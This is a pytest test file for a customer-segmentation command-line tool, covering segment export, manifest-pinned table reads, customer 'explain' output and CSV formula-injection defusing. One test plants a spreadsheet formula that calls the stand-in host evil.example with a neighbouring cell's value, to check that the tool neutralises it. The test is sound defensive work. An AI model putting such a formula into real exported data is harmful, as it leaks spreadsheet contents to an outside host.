"""Segments handed over, and customers explained, from the versions that the newest manifest pins; no Spark."""

from __future__ import annotations

import csv
import io
import json
import math
import shutil

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq
import pytest
from deltalake import DeltaTable, write_deltalake

from audiences.cli import main
from audiences.published.snapshot import published_runs
from audiences.published.spreadsheet import defused


def customers(root) -> pa.Table:
    return published_runs(str(root))[0].dataset("published_customers").to_table()


def call(capsys, *arguments: str) -> tuple[int, str, str]:
    code = main(list(arguments))
    said = capsys.readouterr()
    return code, said.out, said.err


@pytest.mark.parametrize(("column", "view"), [("segment", ""), ("rfm_segment", "RFM: ")])
def test_members_of_a_segment_as_csv_and_parquet(small_shop_root, tmp_path, capsys, column, view):
    every = customers(small_shop_root)
    name = every[column][0].as_py()
    segment = f"{view}{name}"
    members = every.filter(pc.field(column) == name)
    root = ("--set", f"store.root={small_shop_root}")
    code, out, err = call(capsys, "export", segment, *root)
    rows = list(csv.DictReader(io.StringIO(out)))
    assert (code, len(rows)) == (0, len(members))
    assert {row["customer_id"] for row in rows} == set(members["customer_id"].to_pylist())
    assert f"{len(members):,} customers with {column} {segment}" in err
    file = tmp_path / "members.parquet"
    assert call(capsys, "export", segment, "--format", "parquet", "--out", str(file), *root)[0] == 0
    assert pq.read_table(file).sort_by("customer_id").equals(members.sort_by("customer_id"))
    assert [path.name for path in tmp_path.iterdir()] == ["members.parquet"]


def test_an_rfm_name_alone_is_not_taken_for_a_segment(small_shop_root, capsys):
    every = customers(small_shop_root)
    only_rfm = sorted(set(every["rfm_segment"].to_pylist()) - set(every["segment"].to_pylist()))[0]
    code, out, err = call(capsys, "export", only_rfm, "--set", f"store.root={small_shop_root}")
    assert (code, out) == (2, "")
    assert f"RFM: {only_rfm}" in err


def test_unknown_segments_get_near_names_and_bad_files_a_reason(small_shop_root, tmp_path, capsys):
    root = ("--set", f"store.root={small_shop_root}")
    name = customers(small_shop_root)["segment"][0].as_py()
    code, out, err = call(capsys, "export", name.upper() + "S", *root)
    assert (code, out) == (2, "")
    assert f"did you mean {name}" in err
    assert "segment: " in err
    assert call(capsys, "export", name, "--format", "parquet", *root)[0] == 2
    assert call(capsys, "export", name, "--out", str(tmp_path / "no" / "file.csv"), *root)[0] == 2
    assert call(capsys, "export", name, "--set", f"store.root={tmp_path / 'none'}")[0] == 1


@pytest.mark.parametrize("text", ["=1+1", "+1+a", "-a", "@x", "\tx", "\rx", "\nx", "＝1"])
def test_formulas_are_defused(text):
    assert defused(text) == "'" + text


def test_numbers_and_plain_text_stay_and_a_formula_in_the_table_does_not_get_out(small_shop_root, tmp_path, capsys):
    assert [defused(value) for value in (-1.5, None, "a=1", "")] == [-1.5, None, "a=1", ""]
    root = tmp_path / "tables"
    shutil.copytree(small_shop_root, root)
    path = root / "published" / "customers"
    rows = DeltaTable(path).to_pyarrow_table().to_pylist()
    rows[0]["country"] = '=HYPERLINK("http://evil.example/"&A1)'
    write_deltalake(path, pa.Table.from_pylist(rows, DeltaTable(path).to_pyarrow_table().schema), mode="overwrite")
    manifest = DeltaTable(root / "control" / "run_manifest").to_pyarrow_table()
    pins = manifest.to_pylist()
    for row in pins:
        row["sequence"] += 1
        if row["stage"] == "published_customers":
            row["version"] = DeltaTable(path).version()
    write_deltalake(root / "control" / "run_manifest", pa.Table.from_pylist(pins, manifest.schema), mode="append")
    out = call(capsys, "export", rows[0]["segment"], "--set", f"store.root={root}")[1]
    found = [row["country"] for row in csv.DictReader(io.StringIO(out)) if row["country"]]
    assert found == ["'" + rows[0]["country"]]


def test_only_what_the_manifest_pins_is_read(small_shop_root, tmp_path, capsys):
    """A later version of the table that no manifest names does not exist for a reader."""
    root = tmp_path / "tables"
    shutil.copytree(small_shop_root, root)
    before = customers(root)
    path = root / "published" / "customers"
    write_deltalake(path, DeltaTable(path).to_pyarrow_table().slice(0, 1), mode="overwrite")
    assert len(DeltaTable(path).to_pyarrow_table()) == 1
    segment = before["segment"][0].as_py()
    out = call(capsys, "export", segment, "--set", f"store.root={root}")[1]
    assert len(out.splitlines()) - 1 == len(before.filter(pc.field("segment") == segment))


def test_explain_every_customer(two_runs_root, capsys):
    """Distances, border and pulls against the centres; the figures before against the earlier run's rows."""
    runs = published_runs(str(two_runs_root))
    run, old = runs
    scaled = {row["customer_id"]: row for row in run.dataset("features_scaled").to_table().to_pylist()}
    names = {row["name"]: row for row in run.dataset("segment_names").to_table().to_pylist()}
    earlier = {row["customer_id"]: row["name"] for row in old.dataset("segments").to_table().to_pylist()}
    for row in customers(two_runs_root).to_pylist()[::7]:
        customer = row["customer_id"]
        code, out, _ = call(capsys, "explain", customer, "--json", "--set", f"store.root={two_runs_root}")
        told = json.loads(out)
        assert (code, told["segment"], told["rfm_segment"]) == (0, row["segment"], row["rfm_segment"])
        own, other = names[told["border"]["segment"]], names[told["border"]["runner_up"]]
        features = dict(zip(scaled[customer]["feature_names"], scaled[customer]["features"], strict=True))
        place = [features[name] for name in own["feature_names"]]
        assert told["border"]["distance_to_centre"] == pytest.approx(math.dist(place, own["centre"]))
        # walked so far towards the runner-up's centre, the customer is as near to the one as to the other
        apart = math.dist(own["centre"], other["centre"])
        step = told["border"]["distance_to_border"] / apart
        moved = [x + step * (two - one) for x, one, two in zip(place, own["centre"], other["centre"], strict=True)]
        assert math.dist(moved, own["centre"]) == pytest.approx(math.dist(moved, other["centre"]))
        assert sum(abs(one["pull"]) for one in told["features"]) == pytest.approx(1)
        assert sum(one["pull"] for one in told["features"]) >= 0
        money = next(one for one in told["features"] if one["feature"] == "monetary")
        assert float(money["value"]) == pytest.approx(float(row["monetary"]))
        assert told["name"]["fits_name"] == row["fits_name"]
        assert told["name"]["own_name"] == row["own_name"]
        assert ("does not fit" in told["name"]["in_words"]) == (not row["fits_name"])
        assert told["before"]["as_of"] == str(old.as_of)
        if int(customer) % 4 == 3:
            assert told["before"]["note"] == "was no customer yet"
        else:
            assert told["before"]["segment"] == earlier[customer]


def test_explain_in_words(small_shop_root, capsys):
    customer = customers(small_shop_root)["customer_id"][0].as_py()
    code, out, _ = call(capsys, "explain", customer, "--set", f"store.root={small_shop_root}")
    assert code == 0
    for words in (
        "fits_name",
        "own_name",
        "the name",
        "distance_to_border",
        "runner_up_sd",
        "r_score",
        "no run of an earlier as_of is published",
    ):
        assert words in out


def test_unknown_customers_get_near_ids(small_shop_root, capsys):
    root = ("--set", f"store.root={small_shop_root}")
    code, out, err = call(capsys, "explain", "10001.0", *root)
    assert (code, out) == (1, "")
    assert "did you mean 10001" in err
    code, _, err = call(capsys, "explain", "nobody-like-this", *root)
    assert code == 1
    assert "no customer has this id" in err


def test_a_customer_without_a_purchase_before_as_of_is_told_so(small_shop_root, tmp_path, capsys):
    root = tmp_path / "tables"
    shutil.copytree(small_shop_root, root)
    path = root / "published" / "customers"
    left = DeltaTable(path).to_pyarrow_table().slice(1)
    gone = DeltaTable(path).to_pyarrow_table()["customer_id"][0].as_py()
    write_deltalake(path, left, mode="overwrite")
    manifest = DeltaTable(root / "control" / "run_manifest").to_pyarrow_table()
    pins = manifest.to_pylist()
    for row in pins:
        row["sequence"] += 1
        if row["stage"] == "published_customers":
            row["version"], row["rows"] = DeltaTable(path).version(), len(left)
    write_deltalake(root / "control" / "run_manifest", pa.Table.from_pylist(pins, manifest.schema), mode="append")
    assert "this customer has no segment" in call(capsys, "explain", gone, "--set", f"store.root={root}")[2]
